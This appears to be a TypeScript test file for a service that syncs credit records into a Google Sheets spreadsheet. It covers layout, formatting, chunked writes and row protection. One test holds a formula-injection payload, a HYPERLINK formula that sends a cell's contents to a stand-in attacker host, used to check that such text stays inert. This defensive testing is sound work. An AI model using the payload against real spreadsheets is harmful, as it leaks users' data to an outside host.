import { DESK_ID_SETTING, readDeskId } from '../../../../core/desk-id';
import { SYNC_LOCK_KEY } from '../../../../core/locks';
import { inspect } from 'node:util';
import { CONFIG_DEFAULTS, headersOf } from '../../../../core/sheet-contract';
import { STATUSES } from '../../../../core/status';
import { indexColumns } from '../../../../core/table';
import { sortRows } from '../../../../emulators/sheets-model';
import type { SheetsServer } from '../../../../emulators/sheets-server';
import { thisProcess } from '../../../../sync-service/files/owner-process';
import {
  changesFor,
  creditRow,
  creditsByKey,
  fakeAuth,
  IDENTITY,
  lockRanges,
  makeSink,
  SHEET_ID,
  startServer,
  tab,
} from './sheets-helpers';

let server: SheetsServer;
beforeEach(async () => {
  server = await startServer();
});
afterEach(() => server.close());

const ss = () => server.state.sheet(SHEET_ID);

describe('Google Sheets sink: layout', () => {
  test('the first read creates the five tabs with headers, frozen row, filter, Status dropdown and hidden Key in one batchUpdate', async () => {
    const snap = await makeSink(server).read();
    // The sync lock (get, batchUpdate, get), then one batchUpdate for the whole layout (no contract tab
    // yet, so nothing to batchGet).
    expect(server.stats.count('batchUpdate')).toBe(2);
    expect(server.stats.count()).toBe(4);
    const credits = tab(ss(), 'Credits');
    expect(credits.cells[0]).toEqual(headersOf('credits'));
    expect(credits.properties.gridProperties.frozenRowCount).toBe(1);
    // Sent open-ended; Google stores it with explicit bounds at the grid's edge (sheets-model.ts setBasicFilter).
    const grid = credits.properties.gridProperties;
    expect(credits.basicFilter?.range).toEqual({
      sheetId: credits.properties.sheetId,
      startRowIndex: 0,
      endRowIndex: grid.rowCount,
      startColumnIndex: 0,
      endColumnIndex: grid.columnCount,
    });
    expect(credits.basicFilter?.sortSpecs).toBeUndefined();
    const idx = indexColumns('credits', headersOf('credits'));
    expect(credits.hiddenColumns).toEqual([idx.key]);
    const dropdown = credits.validations.find((v) => v.range.startColumnIndex === idx.status);
    expect(dropdown?.rule?.condition?.values?.map((v) => v.userEnteredValue)).toEqual([...STATUSES]);
    // The formats of core/sheet-layout.ts, the same the workbook uses: money, a date, text for typed IDs.
    const formatOf = (col: number) =>
      credits.formats.find((f) => f.range.startColumnIndex === col)?.cell?.userEnteredFormat?.numberFormat;
    expect(formatOf(idx.amount)).toEqual({ type: 'NUMBER', pattern: '#,##0.00' });
    expect(formatOf(idx.distributorKeeps)).toEqual({ type: 'NUMBER', pattern: '#,##0.00' });
    expect(formatOf(idx.processingDate)).toEqual({ type: 'DATE', pattern: 'yyyy-mm-dd' });
    for (const col of [idx.accountId, idx.payerAccountId, idx.lastChange, idx.key])
      expect(formatOf(col)).toEqual({ type: 'TEXT' });
    expect(credits.formats).toHaveLength(7);
    expect(credits.formats.every((f) => f.fields === 'userEnteredFormat.numberFormat')).toBe(true);
    const audit = tab(ss(), 'Audit');
    expect(audit.basicFilter?.range).toEqual({
      sheetId: audit.properties.sheetId,
      startRowIndex: 0,
      endRowIndex: audit.properties.gridProperties.rowCount,
      startColumnIndex: 0,
      endColumnIndex: audit.properties.gridProperties.columnCount,
    });
    expect(
      tab(ss(), 'Config')
        .cells.slice(1)
        .map((r) => r[0]),
    ).toEqual([...CONFIG_DEFAULTS.map((d) => d.setting), DESK_ID_SETTING]);
    // a new sheet has its own Credit Desk ID from the start (core/desk-id.ts)
    expect(readDeskId(snap.tabs.config)).toMatch(/^CD-[0-9a-f-]{36}$/);
    expect(snap.tabs.credits.headers).toEqual(headersOf('credits'));
    expect(tab(ss(), 'Sheet1')).toBeDefined(); // staff's own tab untouched
  });

  test('a second read changes nothing and sends no batchUpdate', async () => {
    await makeSink(server, { readOnly: true }).read();
    const before = JSON.stringify(ss());
    server.stats.reset();
    const snap = await makeSink(server, { readOnly: true }).read(); // read-only: no lock either
    expect(server.stats.count('batchUpdate')).toBe(0);
    expect(server.stats.count()).toBe(3); // get + batchGet (four tabs, Audit's header) + batchGet (Audit's Credit ID, Action)
    expect(JSON.stringify(ss())).toBe(before);
    expect(snap.tabs.audit.headers).toEqual(headersOf('audit'));
  });

  test('a missing header on an existing tab is added at the end; staff columns and their filter stay', async () => {
    await makeSink(server, { readOnly: true }).read();
    const credits = tab(ss(), 'Credits');
    const idx = indexColumns('credits', headersOf('credits'));
    credits.cells[0][idx.flags] = 'Staff Column'; // staff renamed "Flags" into their own column
    credits.basicFilter = {
      range: { sheetId: credits.properties.sheetId, startRowIndex: 0 },
      filterSpecs: [{ columnIndex: 1 }],
    };
    const snap = await makeSink(server).read();
    expect(tab(ss(), 'Credits').cells[0][idx.flags]).toBe('Staff Column');
    expect(snap.tabs.credits.headers[snap.tabs.credits.headers.length - 1]).toBe('Flags');
    expect(tab(ss(), 'Credits').basicFilter?.filterSpecs).toEqual([{ columnIndex: 1 }]);
  });

  test('a Credits tab with data but no Key column is BAD_SHEET', async () => {
    const sink = makeSink(server);
    await sink.read();
    await sink.write({ updates: [], appends: [creditRow(1)], audit: [] });
    const credits = tab(ss(), 'Credits');
    const idx = indexColumns('credits', headersOf('credits'));
    credits.cells[0][idx.key] = null;
    await expect(makeSink(server).read()).rejects.toMatchObject({
      code: 'BAD_SHEET',
      message: expect.stringContaining('no "Key" column'),
    });
  });

  test('duplicated keys are an error that names the rows', async () => {
    const sink = makeSink(server);
    await sink.read();
    await sink.write({
      updates: [],
      appends: [creditRow(1), creditRow(2), creditRow(1, { creditId: 'copy' })],
      audit: [],
    });
    await expect(makeSink(server).read()).rejects.toMatchObject({
      code: 'BAD_SHEET',
      message: expect.stringContaining('rows 2 and 4 (Key K000001)'),
    });
  });
});

describe('Google Sheets sink: writing', () => {
  test('money cells of new rows show their currency’s minor units, like the workbook; USD rows need no request', async () => {
    const sink = makeSink(server);
    await sink.read();
    const before = tab(ss(), 'Credits').formats.length;
    await sink.write({
      updates: [],
      appends: [
        creditRow(1),
        creditRow(2, { currency: 'JPY', amount: 1200 }),
        creditRow(3, { currency: 'JPY', amount: 50 }),
        creditRow(4),
        creditRow(5, { currency: 'KWD', amount: 1.125 }),
      ],
      audit: [],
    });
    const idx = indexColumns('credits', headersOf('credits'));
    const added = tab(ss(), 'Credits').formats.slice(before);
    const rowsOf = (pattern: string, col: number) =>
      added
        .filter(
          (f) =>
            f.cell.userEnteredFormat?.numberFormat?.pattern === pattern && f.range.startColumnIndex === col,
        )
        .map((f) => [f.range.startRowIndex, f.range.endRowIndex]);
    // Data rows 2–3 (sheet rows 3–4) are JPY, one run; row 5 (sheet row 6) is KWD; USD rows keep the column's format.
    expect(rowsOf('#,##0', idx.amount)).toEqual([[2, 4]]);
    expect(rowsOf('#,##0', idx.distributorKeeps)).toEqual([[2, 4]]);
    expect(rowsOf('#,##0.000', idx.amount)).toEqual([[5, 6]]);
    expect(added).toHaveLength(4);
  });

  test('RAW keeps formula-like text as text', async () => {
    const sink = makeSink(server);
    await sink.read();
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    await sink.write({
      updates: [],
      appends: [
        creditRow(1, { description: evil }),
        creditRow(2, { description: '+1-2', notes: '@SUM(A1)' }),
      ],
      audit: [],
    });
    const rows = creditsByKey(ss());
    expect(rows.get('K000001')!.Description).toBe(evil);
    expect(rows.get('K000002')!.Description).toBe('+1-2');
    const anyFormula = tab(ss(), 'Credits').cells.some((r) =>
      r.some((c) => c !== null && typeof c === 'object'),
    );
    expect(anyFormula).toBe(false);
  });

  test('only the named fields are written: staff cells and a staff-added column are untouched', async () => {
    const sink = makeSink(server);
    await sink.read();
    await sink.write({ updates: [], appends: [creditRow(1), creditRow(2)], audit: [] });
    const credits = tab(ss(), 'Credits');
    const idx = indexColumns('credits', headersOf('credits'));
    credits.properties.gridProperties.columnCount += 1;
    credits.cells[0][headersOf('credits').length] = 'Staff Comment';
    credits.cells[1][headersOf('credits').length] = 'call them';
    credits.cells[1][idx.notes] = 'staff note';
    const snap = await sink.read();
    await sink.write(changesFor(snap, [creditRow(1, { description: 'changed' }), creditRow(2)]));
    const rows = creditsByKey(ss());
    expect(rows.get('K000001')).toMatchObject({
      Description: 'changed',
      Notes: 'staff note',
      'Staff Comment': 'call them',
    });
    const lastWrite = server.stats.requests.filter((r) => r.op === 'values.batchUpdate').pop()!;
    expect(lastWrite.requestBytes).toBeLessThan(300); // one cell, not a row
  });

  test('the Authorization header carries the token, but no error message ever does', async () => {
    const sink = makeSink(server, { readOnly: true });
    await sink.read();
    expect(server.lastAuthorization()).toBe('Bearer ya29.test-secret-token');
    server.inject({ match: { op: 'values.batchGet' }, fault: { status: 403 } });
    const err = await makeSink(server)
      .read()
      .catch((e: unknown) => e as Error);
    expect(String(err)).toContain(
      'Share the spreadsheet with the service account credit-sync@demo-project.iam.gserviceaccount.com as Editor',
    );
    expect(JSON.stringify(err) + String(err) + inspect(err, { depth: 8 })).not.toContain('ya29');
  });

  test('404 says to check the spreadsheet ID', async () => {
    const sink = makeSink(server, { spreadsheetId: 'no-such-sheet' });
    await expect(sink.read()).rejects.toMatchObject({
      code: 'BAD_CONFIG',
      message: expect.stringContaining('Check the spreadsheet ID'),
    });
  });

  test('an update whose key vanished is skipped and reported', async () => {
    const sink = makeSink(server);
    await sink.read();
    await sink.write({ updates: [], appends: [creditRow(1), creditRow(2)], audit: [] });
    const snap = await sink.read();
    const credits = tab(ss(), 'Credits');
    credits.cells.splice(1, 1); // a person deletes K000001's row
    const report = await sink.write(
      changesFor(snap, [creditRow(1, { description: 'x' }), creditRow(2, { description: 'y' })]),
    );
    expect(report.skipped.map((s) => s.key)).toEqual(['K000001']);
    expect(report.updatedRows).toBe(1);
    expect(creditsByKey(ss()).get('K000002')!.Description).toBe('y');
    expect(creditsByKey(ss()).has('K000001')).toBe(false);
  });

  test('audit rows are appended after the last audit row', async () => {
    const sink = makeSink(server);
    await sink.read();
    const entry = (n: number) => ({
      when: `2024-06-0${n}T00:00:00Z`,
      who: 'sync',
      action: 'added',
      creditId: `CR-${n}`,
      field: '',
      before: '',
      after: '=1+1',
    });
    await sink.write({ updates: [], appends: [], audit: [entry(1), entry(2)] });
    await sink.write({ updates: [], appends: [], audit: [entry(3)] });
    const audit = tab(ss(), 'Audit')
      .cells.slice(1)
      .map((r) => r[3]);
    expect(audit).toEqual(['CR-1', 'CR-2', 'CR-3']);
    expect(tab(ss(), 'Audit').cells[1][6]).toBe('=1+1');
  });

  test('the request count does not grow with the number of rows', async () => {
    const counts: number[] = [];
    // Both sizes outgrow a new tab's 1,000 rows, so both send the one request that adds rows.
    for (const n of [1500, 5000]) {
      const s = await startServer();
      const sink = makeSink(s);
      const rows = Array.from({ length: n }, (_, i) =>
        creditRow(i, { status: i % 3 === 0 ? 'PROCESSED' : 'PENDING_ASSIGN' }),
      );
      await sink.write(changesFor(await sink.read(), rows));
      const snap = await sink.read();
      await sink.write(
        changesFor(
          snap,
          rows.map((r, i) => (i % 100 === 0 ? { ...r, description: 'changed' } : r)),
        ),
      );
      counts.push(s.stats.count());
      expect(creditsByKey(s.state.sheet(SHEET_ID)).size).toBe(n);
      await s.close();
    }
    expect(counts[0]).toBe(counts[1]);
  });

  test('big appends are chunked under the byte budget, one request per chunk', async () => {
    const sink = makeSink(server, { maxRequestBytes: 50_000 });
    await sink.read();
    await sink.write({
      updates: [],
      appends: Array.from({ length: 2000 }, (_, i) => creditRow(i)),
      audit: [],
    });
    const writes = server.stats.requests.filter((r) => r.op === 'values.batchUpdate');
    expect(writes.length).toBeGreaterThan(5);
    expect(Math.max(...writes.map((w) => w.requestBytes))).toBeLessThan(50_000);
    expect(creditsByKey(ss()).size).toBe(2000);
  });
});

describe('Google Sheets sink: protection of locked rows', () => {
  const statuses = [
    'PROCESSED',
    'PROCESSING',
    'ASSIGNED',
    'PROCESSED',
    'PROCESSED',
    'PENDING_ASSIGN',
    'PROCESSING',
  ];

  test('thousands of locked runs: the protection goes out in batchUpdates under the byte budget, the lock released with the last', async () => {
    // Every other row locked: 1,500 runs, ~285 bytes of request each (Google refuses a body over 10 MiB, ~36,800
    // runs; here a 50 KB budget makes the same split at a test's size).
    const sink = makeSink(server, { maxRequestBytes: 50_000 });
    await sink.read();
    server.stats.reset();
    const report = await sink.write({
      updates: [],
      appends: Array.from({ length: 3000 }, (_, i) => creditRow(i, i % 2 ? {} : { status: 'PROCESSED' })),
      audit: [],
    });
    expect(report.lockedRows).toBe(1500);
    const batches = server.stats.requests.filter((r) => r.op === 'batchUpdate' && r.requestBytes > 10_000);
    expect(batches.length).toBeGreaterThan(5);
    expect(Math.max(...batches.map((b) => b.requestBytes))).toBeLessThan(50_000);
    const locks = lockRanges(ss());
    expect(locks).toHaveLength(1500);
    expect(locks).toContain(`1-2:${IDENTITY}`);
    expect(locks).toContain(`2999-3000:${IDENTITY}`);
    // the lock is released (the last batch carries it)
    expect(ss().developerMetadata.filter((m) => m.metadataKey === SYNC_LOCK_KEY)).toEqual([]);
  });

  test('contiguous locked rows become one range, editable only by the sync identity', async () => {
    const sink = makeSink(server);
    await sink.read();
    const report = await sink.write({
      updates: [],
      appends: statuses.map((s, i) => creditRow(i, { status: s })),
      audit: [],
    });
    expect(report.lockedRows).toBe(5);
    expect(lockRanges(ss())).toEqual([`1-3:${IDENTITY}`, `4-6:${IDENTITY}`, `7-8:${IDENTITY}`]);
    const pr = tab(ss(), 'Credits').protectedRanges[0];
    expect(pr.warningOnly).toBe(false);
    expect(pr.range?.startColumnIndex).toBeUndefined(); // all columns
  });

  test('recomputed idempotently: no pile-up, moved rows corrected, unlocked rows lose protection, staff ranges kept', async () => {
    const sink = makeSink(server);
    await sink.read();
    await sink.write({
      updates: [],
      appends: statuses.map((s, i) => creditRow(i, { status: s })),
      audit: [],
    });
    const credits = tab(ss(), 'Credits');
    credits.protectedRanges.push({
      protectedRangeId: 7,
      description: 'staff: header',
      range: { sheetId: credits.properties.sheetId, startRowIndex: 0, endRowIndex: 1 },
    });
    for (let run = 0; run < 3; run++) {
      server.stats.reset();
      await sink.write(changesFor(await sink.read(), []));
      expect(lockRanges(ss())).toHaveLength(3);
      const last = server.stats.requests.filter((r) => r.op === 'batchUpdate').pop()!;
      // Only the lock release, nothing to fix: its lookup repeats our marker, which names this process.
      expect(last.requestBytes).toBeLessThan(400 + JSON.stringify(thisProcess()).length);
    }
    // A person sorts the rows by Status: the old ranges now cover the wrong rows.
    sortRows(tab(ss(), 'Credits'), 1, indexColumns('credits', headersOf('credits')).status);
    const snap = await sink.read();
    await sink.write(
      changesFor(snap, [creditRow(2, { status: 'PROCESSING' }), creditRow(0, { status: 'ASSIGNED' })]),
    );
    const sorted = tab(ss(), 'Credits')
      .cells.slice(1)
      .map((r) => r[indexColumns('credits', headersOf('credits')).status]);
    const want = sorted
      .map((s, i) => (s === 'PROCESSING' || s === 'PROCESSED' ? i + 1 : null))
      .filter((x) => x !== null);
    const covered = lockRanges(ss()).flatMap((r) => {
      const [a, b] = r.split(':')[0].split('-').map(Number);
      return Array.from({ length: b - a }, (_, k) => a + k);
    });
    expect(covered).toEqual(want);
    expect(tab(ss(), 'Credits').protectedRanges.find((p) => p.protectedRangeId === 7)).toBeDefined();
    expect(
      tab(ss(), 'Credits').protectedRanges.filter((p) => p.description === 'credit-desk:locked').length,
    ).toBeLessThanOrEqual(4);
  });
  test('Google adds the calling account to the editors: a sync named with another identity does not rewrite its protections every run', async () => {
    // --sync-identity names one account, another one calls: Google lists both as editors (recorded,
    // WorksheetTest.test_add_protected_range_normal.json). Comparing editors exactly rewrote every range each run.
    const caller = 'deployer@other-project.iam.gserviceaccount.com';
    const s = await startServer(['Sheet1'], caller);
    try {
      // The key file's client_email is the caller; --sync-identity names IDENTITY.
      const auth = Object.assign(fakeAuth(), {
        getCredentials: () => Promise.resolve({ client_email: caller }),
      });
      const sink = makeSink(s, { auth });
      await sink.read();
      await sink.write({
        updates: [],
        appends: statuses.map((st, i) => creditRow(i, { status: st })),
        audit: [],
      });
      const credits = () => tab(s.state.sheet(SHEET_ID), 'Credits');
      expect(credits().protectedRanges.filter((p) => p.description === 'credit-desk:locked')).toHaveLength(3);
      for (const p of credits().protectedRanges) expect(p.editors?.users).toEqual([caller, IDENTITY]);
      s.stats.reset();
      await sink.write(changesFor(await sink.read(), []));
      const sent = s.stats.requests.filter((r) => r.op === 'batchUpdate');
      const protectionBytes = sent.reduce((n, r) => n + r.requestBytes, 0);
      // Only the lock's marker and its release: no addProtectedRange / updateProtectedRange / delete.
      expect(protectionBytes).toBeLessThan(2 * (400 + JSON.stringify(thisProcess()).length));
    } finally {
      await s.close();
    }
  });
});
